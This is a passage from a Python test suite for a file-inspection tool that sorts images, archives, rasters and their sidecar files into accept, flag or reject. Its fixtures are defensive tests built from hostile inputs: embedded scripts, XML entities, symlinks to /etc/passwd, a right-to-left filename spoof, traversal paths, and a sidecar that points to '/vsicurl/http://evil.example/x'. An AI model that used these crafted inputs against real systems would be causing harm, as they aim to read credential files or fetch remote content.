            "undecodable",
        ),
        "PNG: a script, twice": ("a.png", png_with(*[chunk(b"tEXt", b"a\x00<script>")] * 2), "flag", "active_content"),
        "TIFF: XMP": ("a.tif", tiff_with((700, 1, 4, 0x20202020)), "accept", "sound"),
        "TIFF: XMP with an entity": (
            "a.tif",
            tif([*PLAIN, (700, 1, 17, 74)], tail=b'<!ENTITY a "b">  ' + bytes(64)),
            "reject",
            "xml_entities",
        ),
        "TIFF: EXIF and interoperability inside": ("a.tif", tiff_with((34665, 4, 1, 8), (40965, 4, 1, 8)), "accept", "sound"),
        "TIFF: EXIF without interoperability": ("a.tif", tiff_with((34665, 4, 1, 8)), "accept", "sound"),
        "TIFF: strips that hold the same bytes": (
            "a.tif",
            tif(
                [(256, 4, 1, 4), (257, 4, 1, 4), (273, 4, 2, 74), (278, 4, 1, 2), (279, 4, 2, 82)],
                tail=struct.pack("<4I", 8, 8, 140, 140) + bytes(64),
            ),
            "reject",
            "data_overlap",
        ),
        "TIFF: sparse": ("a.tif", tiff_with((259, 3, 1, 8), (273, 4, 1, 0), (279, 4, 1, 0)), "accept", "sound"),
        "GIF: a comment": ("a.gif", gif()[:-1] + b"\x21\xfe\x03abc\x00\x3b", "accept", "sound"),
        "JPEG: what only looks like the end of a zip": (
            "a.jpg",
            jpeg() + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, 5, 0, 0),
            "flag",
            "appended",
        ),
    }
    return [Attack(name, *row) for name, row in rows.items()]


ATTACKS = attacks()
STRUCTURES = structures()
"""Read in this process only: the confined one has the same readers, and starting it costs a tenth of a second."""


def snapshot(folder: Path) -> dict[str, tuple[int, int, int]]:
    """Every path under a folder with its kind, size and time of change."""
    return {
        path.relative_to(folder).as_posix(): (path.lstat().st_mode, path.lstat().st_size, path.lstat().st_mtime_ns)
        for path in sorted(folder.rglob("*"))
    }


def said(verdict: str, reason: Message) -> tuple[str, str]:
    for lang in ("zh", "en"):
        text = reason.render(lang)
        assert text != reason.id and "{" not in text, text
    return verdict, reason.id.removeprefix("custody.inspect.")


@pytest.mark.parametrize("attack", ATTACKS + STRUCTURES, ids=lambda attack: attack.name)
def test_attack(attack: Attack) -> None:
    """The verdict, its reason, in time and in memory, read in this process."""
    started = time.monotonic()
    tracemalloc.start()
    try:
        verdict, reason, _, _ = judge(Source.of_bytes(attack.data), attack.file, deep=True)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert said(verdict, reason) == (attack.verdict, attack.reason)
    assert time.monotonic() - started < child.SECONDS
    assert peak < child.MEMORY / 2


def test_attacks_have_names_of_their_own() -> None:
    assert len({attack.name for attack in ATTACKS + STRUCTURES}) == len(ATTACKS) + len(STRUCTURES) > 300


def children() -> set[str]:
    """Process ids of what this process started and has not waited for; earlier tests may have left helpers of Python's own."""
    lists = list(Path("/proc/self/task").glob("*/children"))
    assert lists, "this kernel lists no children: nothing would be known of processes left behind"
    return {pid for each in lists for pid in each.read_text().split()}


@pytest.mark.slow
@pytest.mark.skipif(sys.platform != "linux", reason="the processes of a process as Linux lists them")
def test_the_confined_process_says_the_same_and_leaves_nothing(tmp_path: Path) -> None:
    """Every attack through the process of `inspect`: same verdict, nothing written, no process left, each in time."""
    folder = tmp_path / "outside"
    places = {}
    for number, attack in enumerate(ATTACKS):
        places[attack.name] = folder / f"{number}" / attack.file
        places[attack.name].parent.mkdir(parents=True)
        places[attack.name].write_bytes(attack.data)
    before, others = snapshot(tmp_path), children()
    wrong = []
    for attack in ATTACKS:
        started = time.monotonic()
        (found,) = inspect_path(places[attack.name])
        took = time.monotonic() - started
        if (*said(found.verdict, found.reason), took < child.SECONDS) != (attack.verdict, attack.reason, True):
            # a shapefile alone is missing its other parts, which is said as well
            wrong.append((attack.name, found.verdict, found.reason.id, took))
    assert not wrong
    assert snapshot(tmp_path) == before
    assert children() == others


def test_cheap_reading_never_accepts_what_is_rejected_for_its_structure(tmp_path: Path) -> None:
    """`inspect_source_file` inflates and parses nothing: what it cannot see is `not_checked`, never `all`."""
    for number, attack in enumerate(ATTACKS + STRUCTURES):
        path = tmp_path / str(number) / attack.file
        path.parent.mkdir()
        path.write_bytes(attack.data)
        found = inspect_source_file(path)
        if found.verdict == "accept" and attack.verdict == "reject":
            assert found.details.get("decoded") == "not_checked", attack.name


# ---------------------------------------------------------------- the confined process itself

TRY = """
import importlib.util, os, sys
spec = importlib.util.spec_from_file_location("child", sys.argv[1])
child = importlib.util.module_from_spec(spec)
spec.loader.exec_module(child)
import resource, socket, subprocess, ctypes
child.confine()
{code}
print("done")
"""


@pytest.mark.parametrize(
    "code",
    [
        "open('x', 'w')",
        "open(sys.argv[1])",
        "os.open('x', os.O_CREAT | os.O_WRONLY)",
        "socket.socket()",
        "socket.create_connection(('127.0.0.1', 9))",
        "subprocess.run(['true'])",
        "os.system('true')",
        "os.execv('/bin/true', ['true'])",
        "os.fork()",
        "os.pipe()",
        "os.dup(0)",
        "ctypes.CDLL(None)",
        "bytearray(1 << 30)",
        "os.mkdir('x')",
    ],
)
def test_the_confined_process_can_do_nothing_else(tmp_path: Path, code: str) -> None:
    """Each act is refused by the hook or, beneath Python, by a limit of the system."""
    if os.name == "nt":
        pytest.skip("Windows: no limits of a process; the audit hook and the clock alone hold")
    command = [sys.executable, "-I", "-S", "-B", "-c", TRY.format(code=code), child.__file__]
    done = subprocess.run(command, capture_output=True, text=True, cwd=tmp_path, timeout=60)
    assert done.returncode != 0 and "done" not in done.stdout
    assert list(tmp_path.iterdir()) == []


def test_the_limits_leave_room_for_reading(tmp_path: Path) -> None:
    command = [sys.executable, "-I", "-S", "-B", "-c", TRY.format(code="bytearray(200 << 20)"), child.__file__]
    assert subprocess.run(command, capture_output=True, text=True, cwd=tmp_path, timeout=60).stdout == "done\n"


@pytest.mark.parametrize(
    ("script", "reason"),
    [
        ("import os; os.abort()", "reader_died"),
        ("print('not json')", "reader_died"),
        ("import sys; sys.stdout.write('x' * (4 << 20))", "reader_died"),
        ("import time; time.sleep(60)", "limit_time"),
        ("while True: pass", "limit_time"),
    ],
)
def test_a_process_that_dies_lies_or_hangs_is_a_rejection(tmp_path: Path, script: str, reason: str) -> None:
    """The parent outlives its child and says so."""
    (tmp_path / "script.py").write_text(script)
    (tmp_path / "a.jpg").write_bytes(jpeg())
    started = time.monotonic()
    with open(tmp_path / "a.jpg", "rb") as stream:
        seconds = 1 if reason == "limit_time" else child.SECONDS
        found = _in_child(tmp_path / "a.jpg", stream, script=tmp_path / "script.py", seconds=seconds)
    assert said(found.verdict, found.reason) == ("reject", reason)
    assert time.monotonic() - started < child.SECONDS


# ---------------------------------------------------------------- on disk


def verdicts(folder: Path) -> dict[str, tuple[str, str]]:
    return {found.path.name: said(found.verdict, found.reason) for found in inspect_path(folder)}


@pytest.mark.skipif(os.name == "nt", reason="names and links of POSIX")
def test_links_devices_and_names_on_disk(tmp_path: Path) -> None:
    (tmp_path / "whole.txt").write_bytes(b"a")
    (tmp_path / "link.jpg").symlink_to("/etc/passwd")
    (tmp_path / "folder").symlink_to("/")
    (tmp_path / "loop").symlink_to("loop")
    os.mkfifo(tmp_path / "pipe.jpg")
    for name in ("CON", "a\u202egpj.exe", "a:b", "a ", "x\ny"):
        (tmp_path / name).write_bytes(b"a")
    (tmp_path / "Photo.TXT").write_bytes(b"a")
    (tmp_path / "photo.txt").write_bytes(b"b")
    found = verdicts(tmp_path)
    assert found["whole.txt"] == ("accept", "not_known")
    assert found["link.jpg"] == found["folder"] == found["loop"] == ("reject", "link")
    assert found["pipe.jpg"] == ("reject", "special")
    for name in ("CON", "a\u202egpj.exe", "a:b", "a ", "x\ny"):
        assert found[name] == ("reject", "bad_name"), name
    assert (found["Photo.TXT"], found["photo.txt"]) == (("accept", "not_known"), ("reject", "name_twice"))
    for name in ("link.jpg", "pipe.jpg", "folder", "whole.txt"):
        cheap = inspect_source_file(tmp_path / name)
        assert cheap.verdict == ("accept" if name == "whole.txt" else "reject")
    assert inspect_source_file(Path("a\x00b")).verdict == "reject"


def test_deep_folders_end(tmp_path: Path) -> None:
    deep = tmp_path.joinpath(*["d"] * 70)
    deep.mkdir(parents=True)
    assert [said(found.verdict, found.reason) for found in inspect_path(tmp_path)] == [("reject", "too_deep")]


@pytest.mark.parametrize("change", [b"more", None])
def test_a_file_that_changes_while_it_is_read(tmp_path: Path, change: bytes | None) -> None:
    """Grown or cut while it is looked at: the second look at the open file tells."""
    path = tmp_path / "a.txt"
    path.write_bytes(b"text" * 5000)

    class Moving(io.FileIO):
        def read(self, size: int = -1, /) -> bytes:
            if change is None:
                os.truncate(path, 100)
            else:
                with open(path, "ab") as more:
                    more.write(change)
            return super().read(size)

    with Moving(path) as stream:
        found = _inspect_stream(path, stream, deep=False)
    assert said(found.verdict, found.reason) == ("reject", "changed")


SIDECARS = [
    ("a.tif.ovr", VRT.format("/etc/passwd").encode(), "sidecar_disguised"),
    ("a.tif.msk", b"GDAL", "sidecar_disguised"),
    ("a.tif.aux.xml", VRT.format("/etc/passwd").encode(), "sidecar_disguised"),
    ("a.tif.aux.xml", EXTERNAL.encode(), "sidecar_disguised"),
    ("a.tif.aux.xml", b'<PAMDataset><Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">../../x.ovr</MDI></Metadata></PAMDataset>', "sidecar_outside"),
    ("a.tif.aux.xml", b'<PAMDataset><MDI key="OVERVIEW_FILE">/vsicurl/http://evil.example/x</MDI></PAMDataset>', "sidecar_outside"),
    ("a.tif.aux.xml", b'<PAMDataset><MDI key="OVERVIEW_FILE">:::BASE:::../x</MDI></PAMDataset>', "sidecar_outside"),
    ("a.tif.aux.xml", b'key="MASK_FILE" ' * 60_000, None),
    ("a.tif.aux.xml", b'<PAMDataset><PAMRasterBand band="1"/></PAMDataset>', None),
    ("a.tif.ovr", tiff(), None),
]  # fmt: skip


@pytest.mark.parametrize(("name", "content", "reason"), SIDECARS)
def test_sidecars_of_a_raster(tmp_path: Path, name: str, content: bytes, reason: str | None) -> None:
    (tmp_path / "a.tif").write_bytes(tiff())
    (tmp_path / name).write_bytes(content)
    found = inspect_source_file(tmp_path / "a.tif")
    assert said(found.verdict, found.reason) == (("accept", "sound") if reason is None else ("reject", reason))
    if reason is None:
        assert found.details["sidecars"] == [name]


@pytest.mark.skipif(os.name == "nt", reason="links of POSIX")
def test_a_sidecar_that_is_a_link(tmp_path: Path) -> None:
    (tmp_path / "a.tif").write_bytes(tiff())
    (tmp_path / "a.tif.ovr").symlink_to("/etc/passwd")
    found = inspect_source_file(tmp_path / "a.tif")
    assert said(found.verdict, found.reason) == ("reject", "sidecar_link")


def test_a_shapefile_without_its_parts(tmp_path: Path) -> None:
    whole = b"\x00\x00\x27\x0a" + bytes(20) + struct.pack(">I", 50) + struct.pack("<I", 1000) + bytes(68)
    (tmp_path / "a.shp").write_bytes(whole)
    found = inspect_source_file(tmp_path / "a.shp")
    assert said(found.verdict, found.reason) == ("flag", "parts_missing") and found.reason.values["parts"] == ".shx, .dbf"
    (tmp_path / "a.shx").write_bytes(whole)
    (tmp_path / "a.DBF").write_bytes(struct.pack("<BBBBIHH", 3, 0, 0, 0, 0, 33, 1) + bytes(21))
    assert verdicts(tmp_path) == dict.fromkeys(("a.shp", "a.shx", "a.DBF"), ("accept", "sound"))


# ---------------------------------------------------------------- what is whole stays whole

WHOLE = {
    "zip": ("a.zip", archive({"a.txt": b"a", "b/照片.txt": b"c"})),
    "zip with folders": ("a.zip", zipped([("a/", b""), ("a/b", b"x")])),
    "zip in zip, stored": ("a.zip", archive({"b.zip": archive({"x": b"y"})}, method=zipfile.ZIP_STORED)),
    "zip with GBK name": ("a.zip", zipped([("喇叭.txt".encode("gbk"), b"x")]).replace(b"\x00\x08\x08\x00", b"\x00\x00\x08\x00")),
    "kmz": ("a.kmz", archive({"doc.kml": b"<kml><Document/></kml>"})),
    "npz": ("a.npz", archive({"a.npy": npy("'<f8'")})),
    "tar": ("a.tar", tarred("dir/文件.txt", form=tarfile.PAX_FORMAT)),
    "GNU tar": ("a.tar", tarred("n" * 150, form=tarfile.GNU_FORMAT)),
    "tar.gz": ("a.tar.gz", gzip.compress(tarred(), mtime=0)),
    "structured npy": ("a.npy", npy("[('a', '<f8')]")),
    "STAC": ("a.json", stac("./bands/b1.tif")),
    "GeoJSON": ("a.geojson", b'{"type": "FeatureCollection", "features": []}'),
    "JSON lines": ("a.jsonl", b'{"a": 1}\n{"a": 2}\n'),
    "TOML": ("a.toml", b"[case]\nnumber = 1\n"),
    "CSV": ("a.csv", b"x,y\n-1.5,+2\n-,1e-3\n"),
    "CSV in GB 18030": ("a.csv", "名称,数值\n甲,1\n".encode("gb18030")),
    "workbook": ("a.xlsx", workbook("text")),
    "GPX": ("a.gpx", b'<?xml version="1.0"?><gpx version="1.1"><trk/></gpx>'),
    "KML in UTF-16": ("a.kml", '<?xml version="1.0" encoding="UTF-16"?><kml/>'.encode("utf-16")),
    "SVG": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><use href="#a"/></svg>'),
    "TIFF, deflate": ("a.tif", tiff_deflated(bytes(10_000))),
    "PNG with profile": ("a.png", png_with(chunk(b"iCCP", b"k\x00\x00" + zlib.compress(b"profile")))),
    "GIF": ("a.gif", gif()),
    "SQLite": ("a.gpkg", sqlite()),
    "photo": ("DJI_0001.JPG", photo(exif({0x0131: b"v01.02"}, {0x9003: b"2026:05:04 15:30:00"}, position=(30.5, 114.25), preview=jpeg(width=160, height=120)),
              xmp(xmp__CreateDate="2026-05-04", exif__DateTimeOriginal="2026-05-04T07:30:00Z", **{"drone-dji__GpsLatitude": "+30.5001", "drone-dji__GpsLongitude": "+114.25"}))),
    "checkpoint": ("c", CHECKPOINT),
    "proof": ("p.tlog", PROOF),
    "DSSE": ("s.dsse", json.dumps(DSSE).encode()),
    "HEIC": ("a.heic", struct.pack(">I", 24) + b"ftypheic" + bytes(12)),
    "PDF": ("a.pdf", b"%PDF-1.7\n%%EOF\n"),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(WHOLE))
def test_whole_files_are_accepted(name: str) -> None:
    file, data = WHOLE[name]
    verdict, reason, flags, _ = judge(Source.of_bytes(data), file, deep=True)
    assert said(verdict, reason)[0] == "accept", (reason, flags)


@pytest.mark.parametrize(
    ("href", "place"),
    [
        ("a.tif", "inside"), ("./a/../b.tif", "inside"), ("a#b", "inside"), ("?x=../..", "inside"), ("https://x/y", "network"), ("s3://x", "network"),
        ("//host/x", "network"), ("../a", "up"), ("a/../../b", "up"), ("%2e%2e/a", "up"), ("%252e%252e/a", "up"), ("..\\a", "up"), (".. /a", "up"),
        ("/a", "absolute"), ("%2fa", "absolute"), ("C:/a", "absolute"), ("file:///a", "absolute"), ("/vsicurl/http://x", "absolute"), ("a%00b", "absolute"),
        ("\\\\host\\x", "absolute"),
    ],
)  # fmt: skip
def test_where_references_lead(href: str, place: str) -> None:
    assert where_to(href) == place


# ---------------------------------------------------------------- anything at all

SEEDS = [(file, data) for file, data in WHOLE.values()] + [
    (attack.file, attack.data) for attack in ATTACKS if len(attack.data) < 20_000
]


@settings(max_examples=1000, deadline=5000, suppress_health_check=[HealthCheck.too_slow])
@given(
    seed=st.sampled_from(SEEDS),
    edits=st.lists(
        st.tuples(st.floats(0, 1, exclude_max=True), st.binary(max_size=6), st.integers(0, 40)), min_size=1, max_size=6
    ),
    deep=st.booleans(),
)
def test_mutated_files_give_a_verdict(seed: tuple[str, bytes], edits: list[tuple[float, bytes, int]], deep: bool) -> None:
    """No exception, no fault of a reader that only the net below it caught."""
    name, data = seed
    for place, put, cut in edits:
        at = int(place * len(data))
        data = data[:at] + put + data[at + (len(put) if cut > 20 else cut) :]
    verdict, reason, _, _ = judge(Source.of_bytes(data), name, deep=deep)
    assert verdict in ("accept", "flag", "reject") and reason.id != "custody.inspect.reader_failed", reason


@settings(max_examples=1000, deadline=5000)
@given(
    name=st.sampled_from([file for file, _ in SEEDS]),
    data=st.binary(max_size=300),
    deep=st.booleans(),
    start=st.sampled_from([data[:16] for _, data in SEEDS]),
)
def test_random_bytes_give_a_verdict(name: str, data: bytes, deep: bool, start: bytes) -> None:
    for sample in (data, start + data):
        verdict, reason, _, _ = judge(Source.of_bytes(sample), name, deep=deep)
        assert verdict in ("accept", "flag", "reject") and reason.id != "custody.inspect.reader_failed", reason


def test_results_are_plain_values() -> None:
    """What the command prints as JSON: texts, whole numbers, lists of texts."""
    for attack in ATTACKS + STRUCTURES:
        _, reason, flags, details = judge(Source.of_bytes(attack.data), attack.file, deep=True)
        json.dumps([dict(reason.values), [dict(flag.values) for flag in flags], details])
        assert all(isinstance(value, (str, int, list)) for value in details.values())
    assert InspectionResult(path=Path("a"), verdict="accept", reason=Message(id="custody.inspect.sound")).flags == ()
